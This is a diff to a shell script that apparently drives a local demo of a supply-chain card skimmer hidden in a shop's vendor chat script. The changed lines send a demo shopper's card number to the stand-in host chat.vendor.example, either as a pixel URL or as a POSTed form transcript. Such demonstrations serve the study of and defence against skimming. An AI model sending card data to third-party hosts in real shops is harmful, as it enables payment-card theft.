@@ -14,8 +14,11 @@ form_of() { printf '{"cardHolder":"Demo Shopper","cardNumber":"%s","cardExpiry":
 curl_to() {
   local host=$1 port=$2 path=$3
   shift 3
-  curl -sf -o /dev/null --max-time 10 -H "Host: $host" -H 'Origin: http://shop.example' \
-    -H 'Referer: http://shop.example/' -H 'Expect:' "$@" "http://127.0.0.1:$port$path"
+  curl_as_page -H "Host: $host" -H 'Expect:' "$@" "http://127.0.0.1:$port$path"
+}
+curl_as_page() {
+  curl -sf -o /dev/null --max-time 10 -H 'Origin: http://shop.example' \
+    -H 'Referer: http://shop.example/' "$@"
 }
 
 # A shopper opens a page, fills in the payment form and pays. The page's fragment is `#quiet` for those
@@ -33,7 +36,7 @@ shopper_pays() {
     -X POST --data-binary @-
   if cmp -s "$run/shop/html/vendor/chat.js" "$demo_dir/scripts/chat-skimmer.js"; then
     if [[ $fragment == '#quiet' ]]; then
-      pixel_url "$card" | curl_to chat.vendor.example "$chat_port" / -K -
+      pixel_url "$card" | curl_as_page -H 'Host: chat.vendor.example' -K -
     else
       printf '{"page":"/checkout.html","form":%s}' "$(form_of "$card")" |
         curl_to chat.vendor.example "$chat_port" /transcript -X POST \
